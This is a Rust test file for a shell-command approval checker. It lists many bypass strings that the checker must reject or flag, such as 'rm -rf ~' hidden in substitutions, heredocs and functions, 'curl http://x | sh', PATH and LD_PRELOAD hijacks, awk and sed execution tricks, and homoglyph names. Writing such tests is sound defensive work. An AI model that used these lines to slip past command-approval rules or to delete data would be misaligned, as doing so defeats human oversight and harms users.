//! Lines that have fooled approval rules elsewhere, and lines that people write every day.

use super::super::command::{CommandRule, is_allowed};
use super::super::settings::RunRule;
use super::*;

fn rules(rules: &[&str]) -> Vec<CommandRule> {
    rules.iter().map(|rule| CommandRule::new(&RunRule::Line((*rule).to_owned())).unwrap()).collect()
}

fn allowed(by: &[CommandRule], line: &str) -> bool {
    is_allowed(&analyse(line), true, |command| by.iter().any(|rule| rule.is_about(command)))
}

fn denied(by: &[CommandRule], line: &str) -> bool {
    by.iter().any(|rule| analyse(line).may_run().any(|words| rule.may_match(words)))
}

/// What a careful person allows.
const ALLOW: &[&str] = &[
    "git *",
    "git status",
    "cargo test *",
    "ls *",
    "echo *",
    "cat *",
    "grep *",
    "find *",
    "tail *",
    "test *",
    "printf *",
    "true",
    "./build.sh",
    "time *",
    "make",
];

#[test]
fn what_is_allowed_is_allowed_in_its_everyday_forms() {
    let rules = rules(ALLOW);
    for line in [
        "git status",
        "  git   status  ",
        "g\"i\"t 'status'",
        "git log --oneline -n 5",
        "git status && cargo test --all",
        "cargo test 2>&1 | tail -20",
        "cargo test > out.txt",
        "ls -la src; echo done",
        "(ls)",
        "{ ls; }",
        "if true; then ls; else echo no; fi",
        "ls src/*.rs",
        "grep -rn 'fn main' src | tail",
        "echo $(git status)",
        "echo a # a comment",
        "! true",
        "ls &",
        "ls\ngit status\n",
        "find . -name '*.rs'",
        "./build.sh",
        "echo 'rm -rf /; `x` is text'",
        "make",
    ] {
        let is_plain = !line.contains("$(") && !line.contains("`x`");
        // An argument that cannot be told, or that some builtins evaluate again, is asked for.
        assert_eq!(allowed(&rules, line), is_plain, "{line}: {:?}", analyse(line));
    }
}

#[test]
fn nothing_slips_in_beside_what_is_allowed() {
    let rules = rules(ALLOW);
    let padded = format!("git status{}; rm -rf ~", " ".repeat(300));
    let tabs = format!("git status{};rm -rf ~", "\t".repeat(300));
    let long = format!("echo {}", "a".repeat(10_001));
    let many = "ls;".repeat(60);
    let deep = format!("{}ls{}", "(".repeat(200), ")".repeat(200));
    let deeper = format!("{} ls", "{ ".repeat(4_000));
    for line in [
        // Lists, pipes, groups.
        "git status; rm -rf ~",
        "git status && rm -rf ~",
        "git status || rm -rf ~",
        "git status | sh",
        "git status & rm -rf ~",
        "git status\nrm -rf ~",
        "git status\r\nrm -rf ~",
        "(rm -rf ~)",
        "{ rm -rf ~; }",
        "git status; (true; (rm -rf ~))",
        "if true; then rm -rf ~; fi",
        "if rm -rf ~; then true; fi",
        "while true; do rm -rf ~; done",
        "until rm -rf ~; do true; done",
        "for x in a; do rm -rf ~; done",
        "for PATH in /evil; do git status; done",
        "case x in x) rm -rf ~;; esac",
        "case x in $(rm)) true;; esac",
        "ls() { rm -rf ~; }; ls",
        "function ls { rm -rf ~; }",
        "coproc rm -rf ~",
        "! rm -rf ~",
        "time rm -rf ~",
        // Substitutions.
        "echo $(rm -rf ~)",
        "echo `rm -rf ~`",
        "echo \"$(rm -rf ~)\"",
        "echo \"a`rm -rf ~`b\"",
        "echo $(echo $(rm -rf ~))",
        "echo $(echo a # )\nrm -rf ~)",
        "echo <(rm -rf ~)",
        "ls > >(rm -rf ~)",
        "echo ${X:-$(rm -rf ~)}",
        "echo ${X:=`rm -rf ~`}",
        "echo $((a[$(rm -rf ~)]))",
        "echo $[a[$(rm)]]",
        "(( a[$(rm -rf ~)] ))",
        "[[ -v 'a[$(rm)]' ]]",
        "[[ x =~ $(rm) ]]",
        "test -v 'a[$(rm -rf ~)]'",
        "printf -v 'a[`rm -rf ~`]' x",
        "echo ${X@P}",
        "cat <<EOF\n$(rm -rf ~)\nEOF",
        "cat <<< $(rm -rf ~)",
        "git status <<'EOF'\nEOF\nrm -rf ~",
        // Names that are not what they seem.
        "/tmp/evil/git status",
        "./git status",
        "../git status",
        "$GIT status",
        "g$(echo i)t status",
        "gi? status",
        "{git,status}",
        "$'git' status",
        "git\u{a0}status",
        "gіt status",
        "\"git status\"",
        "git\\\n status; rm",
        "~/git status",
        "cd /tmp/evil && ./build.sh",
        // Variables.
        "PATH=/tmp/evil git status",
        "LD_PRELOAD=./x.so git status",
        "GIT_SSH_COMMAND='rm -rf ~' git fetch",
        "PATH=/tmp/evil; git status",
        "export PATH=/tmp/evil; git status",
        "git status; IFS=x",
        "git $OPTIONS",
        "ls $(pwd)",
        // Options that run programs.
        "git -c core.fsmonitor=evil status",
        "git -ccore.pager=evil log",
        "git --exec-path=/tmp/evil status",
        "git --exec-pa=/tmp/evil status",
        "git -C /tmp/evil status",
        "git fetch --upload-pack='rm -rf ~' x",
        "git grep -Ovi x",
        "git grep --open-files-in-pager=vi x",
        "git diff --output=.git/hooks/x",
        "cargo test --config 'build.rustc-wrapper=\"./x\"'",
        "find . -exec rm {} ;",
        "find . -exec rm {} +",
        "find . -delete",
        "find . -fprint .git/hooks/x",
        "find . $X",
        // Programs that run programs.
        "sh -c 'rm -rf ~'",
        "bash -lc 'git status'",
        "eval 'git status'",
        "eval git status",
        "exec git status",
        "env git status",
        "xargs git status",
        "sudo git status",
        "nohup git status",
        "command git status",
        "builtin echo x",
        ". ./x",
        "source x",
        "trap 'rm -rf ~' EXIT",
        "alias git='rm -rf ~'",
        "git status | xargs rm",
        // Files that programs run.
        "echo x .git/hooks/pre-commit",
        "cat .GIT/config",
        "ls .vscode/",
        "echo -o.git/x",
        "git diff a.code-workspace",
        // What is too much, or cannot be read.
        "git status 'unclosed",
        "git status )",
        "git status \u{202e}",
        "git status \u{200b}; ls",
        "git status \u{3164}",
        "ls &> x",
        "",
        "   ",
        "# only a comment",
        "> file",
        "X=1",
        &padded,
        &tabs,
        &long,
        &many,
        &deep,
        &deeper,
    ] {
        assert!(!allowed(&rules, line), "{line:?}: {:?}", analyse(line));
    }
}

#[test]
fn scripts_and_variables_are_nothing_a_star_stands_for() {
    let rules = rules(&[
        "awk *",
        "gawk *",
        "sed *",
        "perl *",
        "python3 *",
        "python3 -m pytest *",
        "node *",
        "ruby *",
        "less *",
        "man *",
        "vim *",
        "ed *",
        "npm run *",
        "make *",
        "tar *",
        "rsync *",
        "sqlite3 *",
        "gdb *",
        "ssh *",
        "split *",
        "install *",
        "cargo *",
        "export *",
        "declare *",
        "typeset *",
        "readonly *",
        "local *",
        "read *",
        "printf *",
        "unset *",
        "alias *",
        "set *",
        "source *",
        ". *",
        "trap *",
        "enable *",
        "hash *",
        "shopt *",
        "mapfile *",
        "ls *",
        "ls",
        "cp *",
        "cat *",
        "sort *",
        "awk '{print $1}' a.txt",
        "export A=1",
        "sed -n 1p a.txt",
    ]);
    for line in [
        "awk 'BEGIN{system(\"id\")}'",
        "awk '{print}' x",
        "gawk -f x",
        "/usr/bin/awk 1 x",
        "sed 1e x",
        "sed s/x/id/e x",
        "sed 'w .x' x",
        "sed -n 1p b.txt",
        "perl -e 1",
        "perl x.pl",
        "python3 -c 1",
        "python3 x.py",
        "python3.11 -m pytest",
        "node -e 1",
        "ruby -e 1",
        "less +!id a",
        "less a",
        "man -P id x",
        "vim -c !id",
        "ed x",
        "npm run --script-shell id x",
        "npm run x --prefix=/x",
        "make SHELL=id",
        "make -f x",
        "tar --checkpoint-action=exec=id -cf x y",
        "tar -T x -cf y",
        "rsync -e id a b:",
        "ssh -o ProxyCommand=id x",
        "sqlite3 x '.shell id'",
        "gdb -ex x",
        "split --filter=id x",
        "install --strip-program=id -s x y",
        "cargo +nightly test",
        "sort --files0-from=x",
        "cp a.txt .vscod?/s.json",
        "cp a.txt sub/.g*/x",
        "cp a.txt x.code-w*",
        "cp a.txt sub/*",
        "export PATH=/evil; ls",
        "export LD_PRELOAD=x; ls",
        "export A=1",
        "ls; export BASH_ENV=x",
        "declare PATH=/evil",
        "typeset PATH=/evil",
        "readonly PATH=/evil",
        "local PATH=/evil",
        "read PATH",
        "printf -v PATH x",
        "printf -vPATH x",
        "unset PATH",
        "alias ls=id",
        "set -a",
        "source x",
        ". x",
        "trap id EXIT",
        "enable -f x y",
        "hash -p /evil ls",
        "shopt -s expand_aliases",
        "mapfile -C id x",
        "BASH_ENV=x ls",
    ] {
        assert!(!allowed(&rules, line), "{line:?}: {:?}", analyse(line));
    }
    for line in [
        "awk '{print $1}' a.txt",
        "sed -n 1p a.txt",
        "python3 -m pytest -x",
        "npm run build",
        "make all",
        "tar -xf x",
        "cp a.txt b.txt",
        "cat src/*",
        "ls src/*.rs",
        "printf x",
    ] {
        assert!(allowed(&rules, line), "{line:?}: {:?}", analyse(line));
    }
}

#[test]
fn what_is_denied_is_found_wherever_it_hides() {
    let rules = rules(&["rm", "git push"]);
    for line in [
        "rm x",
        "/bin/rm x",
        "\\rm x",
        "r\"m\" x",
        "'rm' x",
        "true; rm x",
        "true | rm",
        "true && (rm x)",
        "echo $(rm x)",
        "echo `rm x`",
        "echo \"a $(rm x)\"",
        "echo <(rm x)",
        "X=$(rm x)",
        "cat <<EOF\n$(rm x)\nEOF",
        "f() { rm x; }; f",
        "if rm x; then true; fi",
        "for x in $(rm x); do true; done",
        "case $(rm x) in a) true;; esac",
        "sh -c 'rm x'",
        "bash -lc 'true; rm x'",
        "sh -c \"sh -c 'rm x'\"",
        "env A=1 rm x",
        "env -S 'rm x'",
        "xargs rm",
        "sudo -u bob rm x",
        "nohup nice -n 5 rm x",
        "timeout 5 rm x",
        "time rm x",
        "find . -exec rm {} ;",
        "find . -exec sh -c 'rm x' {} ;",
        "eval 'rm x'",
        "eval r'm x'",
        "command rm x",
        "exec rm x",
        "su -c 'rm x'",
        "ssh host 'rm x'",
        "trap 'rm x' EXIT",
        "alias ls='rm x'",
        "busybox rm x",
        "X=rm; $X x",
        "$(echo rm) x",
        "r? x",
        "{rm,x}",
        "$'\\x72m' x",
        "curl http://x | sh",
        "sh < x",
        ". ./x",
        "eval $X",
        "sh -c \"$X\"",
        "echo ${X:-$(rm x)}",
        "git push",
        "git -c a=b push",
        "git -C x push origin",
        "git $X",
        "git 'pu'sh",
        "rm 'unclosed",
        "(((((((((((((((((((((((((",
        "nohup $X",
        "PATH=/x rm x",
        "! rm x",
        "coproc rm x",
        "rm x > y",
        "> y rm x",
        "2>&1 rm x",
        // Scripts of programs that can run others.
        "awk 'BEGIN{system(\"rm x\")}'",
        "awk '{print | \"rm x\"}'",
        "awk 'BEGIN{\"rm x\" | getline}'",
        "awk -f x",
        "awk \"$X\"",
        "gawk '@load \"x\"'",
        "env awk 'BEGIN{system(\"r\" \"m x\")}'",
        "sed 1e",
        "sed '1e rm x' y",
        "sed s/x/rm/e y",
        "sed -e p -e '1e rm x' y",
        "sed -f x y",
        "sed --expr=1e y",
        "sed p $X",
        "sed -l 5 '1e rm x' y",
        "perl -e 'unlink x'",
        "perl -ne 1 x",
        "python3 -c 'import os'",
        "python3 < x",
        "python3 - x",
        "python3 /dev/stdin",
        "python3 $X",
        "node -e 1",
        "node --eval=1",
        "ruby -e 1",
        "lua -e 1",
        "php -r 1",
        "less +!rm x",
        "vim -c '!rm x'",
        "echo '!rm x' | ed",
        "man -P rm x",
        "rsync -e 'rm x' a b:",
        "tar --to-command='rm x' -xf y",
        "tar -I rm -xf y",
        "sort --compress-program=rm x",
        "split --filter='rm x' y",
        "git -c alias.x='!rm x' x",
        "git -c core.pager='rm x' log",
        "make SHELL=rm",
        "npm run x --script-shell=rm",
        "rg --pre rm x",
        "sqlite3 x '.shell rm x'",
        "sqlite3 x < y",
        "echo $((a[$(rm x)]))",
        "x='a[$(rm x)]'; echo $((x))",
        "unset 'a[$(rm x)]'",
        "printf -v 'a[$(rm x)]' y",
        "let 'a[`rm x`]=1'",
    ] {
        assert!(denied(&rules, line), "{line:?}: {:?}", analyse(line));
    }
    for line in [
        "ls rm",
        "echo rm x",
        "git status",
        "git log push.txt",
        "cargo test -- rm",
        "echo 'rm x'",
        "echo $HOME",
        "find . -name rm",
        "bash build.sh",
        "timeout 5 cargo test",
        "cargo test 2>&1 | tail -n 3",
        "for f in *.rs; do wc -l \"$f\"; done",
        "awk '{print $1}' x",
        "awk -F '|' '$1 > 5 || $2 {print $1}' \"$f\"",
        "sed s/a/b/ x",
        "sed -n 1,10p x",
        "sed -i -e 's/a/b/g' -e '/x/d' x src/*.c",
        "sed -i s/a/b/ -- \"$f\"",
        "python3 x.py rm",
        "python3 -m pytest -c x",
        "python3 -u x.py",
        "perl x.pl",
        "node --version",
        "node x.js",
        "less x",
        "make all",
        "make -j4",
        "tar -xzf x",
        "rsync -a x y",
        "echo $((1+2))",
        "export A=1",
        "psql -c 'select 1'",
        "",
    ] {
        assert!(!denied(&rules, line), "{line:?}: {:?}", analyse(line));
    }
}

#[test]
fn hostile_lines_are_read_in_no_time() {
    for (piece, count) in [
        ("(", 9_000),
        ("$(", 4_000),
        ("{ ", 4_000),
        ("if ", 3_000),
        ("`", 9_000),
        ("((", 4_000),
        ("case x in (x) ", 600),
        ("${a:-", 1_900),
        ("X=$((1+(", 1_200),
        ("f() { ", 1_500),
        ("! ", 4_000),
        ("a|", 4_000),
        ("a;", 4_000),
        ("sh ", 3_000),
        ("env ", 2_400),
        ("eval ", 1_900),
        ("sh -c 'sh -c ", 700),
        ("X=$(a[", 1_600),
        ("\"$(", 3_000),
        ("<(", 4_000),
        ("xargs sh -c \"a b\" ", 500),
        ("\u{200b}", 3_000),
        ("[[ ", 3_000),
        ("a && ", 1_900),
        ("while a; do ", 800),
        ("$((", 3_000),
        ("'\"", 4_000),
        ("<<E\n", 2_400),
    ] {
        for end in ["", "true", ")", "'", "\""] {
            let line: String = piece.repeat(count) + end;
            let start = std::time::Instant::now();
            let _ = analyse(&line);
            let short: String = piece.repeat(7) + end;
            let _ = analyse(&short);
            let took = start.elapsed();
            assert!(took.as_secs() < 2, "{piece} × {count} {end}: {took:?}");
        }
    }
}

/// Lines of every few pieces that matter to a shell, run by real shells where the rules allow them:
/// whatever is allowed runs nothing but what is allowed.
#[test]
fn real_shells_run_nothing_else_of_an_allowed_line() {
    use std::fs;
    use std::os::unix::fs::PermissionsExt;
    use std::process::{Command, Stdio};

    const PIECES: &[&str] = &[
        "git status",
        "git",
        "status",
        "rm",
        " ",
        ";",
        "|",
        "&",
        "$(",
        "`",
        ")",
        "(",
        "\"",
        "'",
        "\n",
        "#",
        "\\",
        "{",
        "}",
        "!",
        "$",
        "=",
        "~",
        "*",
        "<",
        "2>&1",
        "$'",
        "<<",
        "[[",
        "]]",
        "awk",
        "sed",
        "export",
        "PATH=.",
        "printf -v",
        "read",
        "set -a",
        "1e rm",
        "BEGIN{system(\"rm\")}",
        "$((",
        "))",
        "[",
    ];
    let dir = tempfile::tempdir().unwrap();
    let (bin, work, log) =
        (dir.path().join("bin"), dir.path().join("work"), dir.path().join("log"));
    fs::create_dir(&bin).unwrap();
    fs::create_dir(&work).unwrap();
    // What they are told is run, as the real ones might.
    for name in ["awk", "sed"] {
        let script = format!("#!/bin/sh\necho {name} >> {}\neval \"$*\"\n", log.display());
        fs::write(bin.join(name), script).unwrap();
        fs::set_permissions(bin.join(name), PermissionsExt::from_mode(0o755)).unwrap();
    }
    for name in ["git", "rm", "status"] {
        let script = format!("#!/bin/sh\necho {name} \"$@\" >> {}\n", log.display());
        fs::write(bin.join(name), script).unwrap();
        fs::set_permissions(bin.join(name), PermissionsExt::from_mode(0o755)).unwrap();
    }
    let shells: Vec<_> =
        ["/bin/sh", "/bin/bash"].into_iter().filter(|shell| fs::exists(shell).unwrap()).collect();
    assert!(!shells.is_empty(), "there is no shell to try");
    let rules = rules(&["git status", "awk *", "sed *", "export *", "read *", "set *", "printf *"]);
    // A fixed sequence: a failure can be looked at again.
    let mut seed = 0x2545_F491_4F6C_DD1D_u64;
    let mut next = |below: usize| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        usize::try_from(seed % below as u64).unwrap()
    };
    let (mut tried, mut run) = (0, 0);
    while run < 150 && tried < 200_000 {
        tried += 1;
        let mut line = if next(2) == 0 { "git status".to_owned() } else { String::new() };
        for _ in 0..1 + next(6) {
            line.push_str(PIECES[next(PIECES.len())]);
        }
        if !allowed(&rules, &line) {
            continue;
        }
        run += 1;
        for shell in &shells {
            let _ = fs::remove_file(&log);
            let mut child = Command::new(shell)
                .args(["-c", &line])
                .current_dir(&work)
                .env_clear()
                .env("PATH", &bin)
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap();
            child.wait().unwrap();
            // What goes to the background may log late.
            if line.contains('&') {
                std::thread::sleep(std::time::Duration::from_millis(30));
            }
            let ran = fs::read_to_string(&log).unwrap_or_default();
            assert!(ran.lines().all(|line| line == "git status"), "{shell} {line:?} ran {ran:?}");
            let left = fs::read_dir(&work).unwrap().count();
            assert_eq!(left, 0, "{shell} {line:?} left files behind");
        }
    }
    assert!(run >= 100, "only {run} of {tried} lines were allowed: the test says little");
}

/// Text added to a line that is not allowed, or that is not understood, never makes it allowed by
/// way of the part that was there.
#[test]
fn more_text_never_allows_more() {
    let rules = rules(&["git status", "ls *"]);
    let bad = ["rm x", "git push", "$X", "ls $(rm)", "PATH=. ls", "git -c a=b status"];
    let joints = [";", "\n", "|", "||", "&&", "&", " ; ", "\n\n", " |\n"];
    for bad in bad {
        assert!(!allowed(&rules, bad), "{bad}");
        for joint in joints {
            for good in ["git status", "ls -l", "(ls)", "{ ls; }"] {
                for line in [format!("{bad}{joint}{good}"), format!("{good}{joint}{bad}")] {
                    assert!(!allowed(&rules, &line), "{line:?}");
                }
            }
        }
    }
}
